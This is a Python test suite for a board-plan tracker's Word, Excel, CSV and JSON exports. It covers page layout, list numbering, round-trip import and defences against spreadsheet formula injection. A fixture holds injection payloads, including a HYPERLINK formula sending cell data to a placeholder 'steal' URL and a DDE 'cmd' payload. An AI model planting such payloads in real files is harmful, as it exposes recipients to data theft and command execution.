"""The plan's exports as a board pack needs them (issue 12): Word and Excel laid out for A4
landscape, read from the files themselves; months as the board writes them; text that
would run as a formula written as text; and every export read back by the importer."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from datetime import date

import pytest
from docx import Document
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from openpyxl import load_workbook

from tests import factories
from tracker import clock
from tracker.imports.plan_import import write
from tracker.imports.plan_reader import HEADINGS, Column, read_plan
from tracker.imports.sources import read_tables
from tracker.models import ActionStatus, AreaPriority, Plan, ProgressUpdate, Rag, Role
from tracker.plans.export import export_plan
from tracker.plans.export.content import AREA_COLUMNS, exported_actions

FORMULAS = {
    "action": '=HYPERLINK("http://example.org/steal?d="&A1,"Click for the full plan")',
    "measure": "+44 1865 000000 calls answered",
    "agency": "-Youth Service",
    "progress": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MEASURES = [f"Measure {n} of the area" for n in range(1, 12)]  # "10." and "11." too
soffice = pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")


@pytest.fixture
def plan(session) -> Plan:
    """Two areas as the reference plan has them: lists of agencies, eleven measures, people
    and teams as leads, two reporting months, ratings and progress."""
    board = factories.board("Oxfordshire Children's Trust Board")
    lead = factories.person(board, Role.LEAD, name="David Clarke")
    team = factories.team(board, "SEND (OCC)")
    police, nurses = factories.agency(board), factories.agency(board, "School nurses")
    plan = factories.plan(board)
    for position, (name, focus) in enumerate(
        [
            ("Be Successful", "Focus on children missing out on education"),
            ("Be Safe", "Focus on domestic abuse"),
        ],
        start=1,
    ):
        area = factories.area(plan, name, position)
        area.priorities.append(AreaPriority(plan_year=2018, text=focus))
        for n in range(2):
            action = factories.action(
                area,
                text=f"{name}: action {n + 1}, with enough words to wrap in its column",
                leads=[lead, team],
                months=[date(2018, 9, 1), date(2019, 3, 1)],
                measures=MEASURES,
                status=ActionStatus.ON_TRACK,
            )
            action.agencies = [police, nurses]
            action.rag = Rag.AMBER
            session.add(
                ProgressUpdate(
                    action=action,
                    author=lead,
                    text="Launched in July.\nA second paragraph.",
                    status=ActionStatus.ON_TRACK,
                )
            )
    session.commit()
    return plan


def _read_back(session, plan: Plan, data: bytes, file_format: str) -> list:
    """The plan as read back by the importer into a new, empty plan of the same board."""
    draft = read_plan(read_tables(f"plan.{file_format}", data))
    assert not draft.problems, draft.problems
    copy = factories.plan(plan.board, f"Copy as {file_format} 2018–2021", 2018, 2021)
    author = factories.person(plan.board, Role.ADMIN)
    write(session, plan.board, copy, draft, author=author, now=clock.now())
    session.commit()
    return exported_actions(session, copy)


def _cm(length) -> float:
    return round(length.cm, 2)


def test_word_is_a4_landscape_with_a_table_per_area_fitted_to_what_its_columns_hold(session, plan):
    document = Document(io.BytesIO(export_plan(session, plan, "docx")))
    section = document.sections[0]
    assert section.orientation == WD_ORIENT.LANDSCAPE
    assert (_cm(section.page_width), _cm(section.page_height)) == (29.7, 21.0)
    margins = [section.left_margin, section.right_margin, section.top_margin, section.bottom_margin]
    assert [_cm(m) for m in margins] == [1.27] * 4
    text_width = _cm(section.page_width) - 2 * 1.27

    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
    assert headings == [
        "Be Successful – Focus on children missing out on education",
        "Be Safe – Focus on domestic abuse",
    ]
    assert len(document.tables) == 2
    for table in document.tables:
        widths = {c: _cm(col.width) for c, col in zip(AREA_COLUMNS, table.columns, strict=True)}
        assert sum(widths.values()) <= text_width
        narrow = max(widths[c] for c in (Column.MONTHS, Column.RAG, Column.PLAN_YEAR))
        assert min(widths[Column.ACTION], widths[Column.PROGRESS]) > 2 * narrow
        assert table._tbl.tblPr.find(qn("w:tblLayout")).get(qn("w:type")) == "fixed"
        # Every cell as wide as its column, for Word, which reads the cells' widths.
        for row in table.rows:
            assert [_cm(cell.width) for cell in row.cells] == list(widths.values())
        heading = table.rows[0]
        assert [cell.text for cell in heading.cells] == [HEADINGS[c] for c in AREA_COLUMNS]
        assert heading._tr.trPr.find(qn("w:tblHeader")) is not None
        # Rows may break across pages (no "cantSplit"), so a long row leaves no blank page.
        assert table._tbl.xpath(".//w:cantSplit") == []
        first = dict(zip(AREA_COLUMNS, table.rows[1].cells, strict=True))
        assert [p.text for p in first[Column.MONTHS].paragraphs] == ["Sep 18", "Mar 19"]
        assert [p.text for p in first[Column.PROGRESS].paragraphs] == [
            "Launched in July.",
            "A second paragraph.",
        ]


def _list_of(paragraph, numbering) -> tuple[int, str, str | None]:
    """The paragraph's list: its numId, number format and the number it starts at."""
    num_id = paragraph._p.pPr.numPr.numId.val
    num = numbering.num_having_numId(num_id)
    abstract = numbering.xpath(
        f'./w:abstractNum[@w:abstractNumId="{num.abstractNumId.val}"]/w:lvl[@w:ilvl="0"]'
    )[0]
    start = num.xpath("./w:lvlOverride/w:startOverride/@w:val")
    return num_id, abstract.find(qn("w:numFmt")).get(qn("w:val")), start[0] if start else None


def test_word_lists_are_real_lists_and_each_cells_numbering_starts_at_one(session, plan):
    document = Document(io.BytesIO(export_plan(session, plan, "docx")))
    numbering = document.part.numbering_part.element
    numbered = set()
    for table in document.tables:
        for row in table.rows[1:]:
            cells = dict(zip(AREA_COLUMNS, row.cells, strict=True))
            measures = [_list_of(p, numbering) for p in cells[Column.MEASURES].paragraphs]
            assert [p.text for p in cells[Column.MEASURES].paragraphs] == MEASURES
            assert {(fmt, start) for _, fmt, start in measures} == {("decimal", "1")}
            (num_id,) = {num_id for num_id, _, _ in measures}
            assert num_id not in numbered, "a cell's numbering goes on from another cell's"
            numbered.add(num_id)
            agencies = [_list_of(p, numbering) for p in cells[Column.AGENCIES].paragraphs]
            assert {fmt for _, fmt, _ in agencies} == {"bullet"}
    assert len(numbered) == 4


def _libreoffice(tmp_path, path, target: str) -> str:
    """``path`` converted by LibreOffice to ``target`` (a filter), as text."""
    subprocess.run(  # noqa: S603 (our own arguments, no shell)
        [
            shutil.which("soffice"),
            f"-env:UserInstallation=file://{tmp_path}/libreoffice-profile",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(tmp_path / "out"),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    (converted,) = (tmp_path / "out").iterdir()
    return converted.read_text(encoding="utf-8-sig")


@soffice
def test_libreoffice_numbers_each_cell_from_one(session, plan, tmp_path):
    path = tmp_path / "plan.docx"
    path.write_bytes(export_plan(session, plan, "docx"))
    text = _libreoffice(tmp_path, path, "txt:Text (encoded):UTF8")
    numbers = [int(n) for n in re.findall(r"^\s*(\d+)\.\s", text, re.M)]
    assert numbers == list(range(1, 12)) * 4


def test_excel_prints_a4_landscape_one_page_wide_with_the_headings_on_every_page(session, plan):
    workbook = load_workbook(io.BytesIO(export_plan(session, plan, "xlsx")))
    assert workbook.sheetnames == ["Be Successful", "Be Safe"]
    for sheet in workbook.worksheets:
        setup = sheet.page_setup
        assert (setup.paperSize, setup.orientation) == (int(sheet.PAPERSIZE_A4), "landscape")
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$2"  # the title and heading rows
        assert [c.value for c in sheet[2]] == [HEADINGS[c] for c in AREA_COLUMNS]
        widths = {
            column: sheet.column_dimensions[chr(ord("A") + n)].width
            for n, column in enumerate(AREA_COLUMNS)
        }
        narrow = max(widths[c] for c in (Column.MONTHS, Column.RAG, Column.PLAN_YEAR))
        assert min(widths[Column.ACTION], widths[Column.PROGRESS]) > 2 * narrow
        cells = dict(zip(AREA_COLUMNS, sheet[3], strict=True))
        assert cells[Column.MONTHS].value == "Sep 18\nMar 19"
        numbered = [f"{n}. {measure}" for n, measure in enumerate(MEASURES, 1)]
        assert cells[Column.MEASURES].value == "\n".join(numbered)
        assert cells[Column.AGENCIES].value == "• School nurses\n• Thames Valley Police"
        # Tall enough for the eleven measures, which neither Excel nor LibreOffice works out.
        assert sheet.row_dimensions[3].height >= 11 * 12


def test_csv_and_json_write_months_for_their_readers(session, plan):
    rows = list(csv.DictReader(io.StringIO(export_plan(session, plan, "csv").decode("utf-8-sig"))))
    assert rows[0][HEADINGS[Column.MONTHS]] == "September 2018 / March 2019"
    actions = json.loads(export_plan(session, plan, "json"))["actions"]
    assert actions[0]["reporting_months"] == ["2018-09", "2019-03"]


@pytest.mark.parametrize("file_format", ["xlsx", "docx", "csv", "json"])
def test_every_export_reads_back_unchanged(session, plan, file_format):
    copy = _read_back(session, plan, export_plan(session, plan, file_format), file_format)
    assert copy == exported_actions(session, plan)


@pytest.fixture
def formulas(session, plan):
    """The first action holding text a spreadsheet would run as a formula, everywhere."""
    action = plan.areas[0].actions[0]
    action.text = FORMULAS["action"]
    action.measures[0].text = FORMULAS["measure"]
    action.agencies = [factories.agency(plan.board, FORMULAS["agency"])]
    session.add(
        ProgressUpdate(
            action=action,
            author=action.leads[0].person,
            text=FORMULAS["progress"],
            status=action.status,
        )
    )
    session.commit()
    return plan


def test_excel_writes_what_would_run_as_a_formula_as_text(session, formulas):
    data = export_plan(session, formulas, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in package.read(name) for name in sheets)
    sheet = load_workbook(io.BytesIO(data))["Be Successful"]
    cells = dict(zip(AREA_COLUMNS, sheet[3], strict=True))
    for column, text in (
        (Column.ACTION, FORMULAS["action"]),
        (Column.AGENCIES, FORMULAS["agency"]),
        (Column.PROGRESS, FORMULAS["progress"]),
    ):
        assert cells[column].value.startswith(text)
        assert (cells[column].data_type, cells[column].quotePrefix) == ("s", True)


def test_csv_quotes_what_would_run_as_a_formula(session, formulas):
    rows = list(csv.reader(io.StringIO(export_plan(session, formulas, "csv").decode("utf-8-sig"))))
    action = rows[1]
    assert action[2] == "'" + FORMULAS["action"]
    assert action[-1] == "'" + FORMULAS["progress"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


@pytest.mark.parametrize("file_format", ["xlsx", "docx", "csv", "json"])
def test_text_that_would_run_as_a_formula_reads_back_unchanged(session, formulas, file_format):
    copy = _read_back(session, formulas, export_plan(session, formulas, file_format), file_format)
    assert copy == exported_actions(session, formulas)
    assert copy[0].text == FORMULAS["action"] and copy[0].progress == FORMULAS["progress"]


@soffice
def test_libreoffice_opens_formula_text_as_text(session, formulas, tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(export_plan(session, formulas, "xlsx"))
    # The first sheet, as LibreOffice computes it: a formula would show its result.
    text = _libreoffice(tmp_path, path, "csv:Text - txt - csv (StarCalc):44,34,76")
    _title, headings, first, *_ = csv.reader(io.StringIO(text))
    assert headings[0] == "Actions"
    assert (first[0], first[1], first[-1]) == (
        FORMULAS["action"],
        FORMULAS["agency"],
        FORMULAS["progress"],
    )


def test_text_stored_before_input_was_cleaned_cannot_break_an_export(app, session, plan):
    # PostgreSQL never held a NUL; SQLite may have, before forms cleaned what was posted.
    nul = "\x00" if session.get_bind().dialect.name == "sqlite" else ""
    action = plan.areas[0].actions[0]
    action.text = f"Embed\x0b the{nul} pathway\x1f"
    action.measures[0].text = "Fewer\x0c referrals\x7f"
    session.add(
        ProgressUpdate(
            action=action,
            author=action.leads[0].person,
            text=f"Launched\x01 in{nul} July\x85",
            status=action.status,
        )
    )
    session.commit()
    unwanted = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
    workbook = load_workbook(io.BytesIO(export_plan(session, plan, "xlsx")))
    cells = [str(c.value) for s in workbook.worksheets for row in s.iter_rows() for c in row]
    document = Document(io.BytesIO(export_plan(session, plan, "docx")))
    words = [c.text for t in document.tables for row in t.rows for c in row.cells]
    texts = [export_plan(session, plan, f).decode("utf-8-sig") for f in ("csv", "json")]
    for text in (*cells, *words, *texts):
        assert not unwanted.search(text)
    assert "Embed the pathway" in cells and "Launched in July" in words


def test_downloads_name_their_charset_once(session, plan, client_request):
    person = factories.person(plan.board, Role.ADMIN)
    meeting = factories.meeting(plan.board, date(2018, 9, 12))
    session.commit()
    client_request.login(person)
    for endpoint, values, content_type in (
        ("plans.export", {"plan_id": plan.id, "file_format": "csv"}, "text/csv"),
        ("reports.download", {"meeting_id": meeting.id, "file_format": "html"}, "text/html"),
    ):
        url = client_request.url(endpoint, board_slug=plan.board.slug, **values)
        response = client_request.client.get(url)
        assert response.headers["Content-Type"] == f"{content_type}; charset=utf-8"
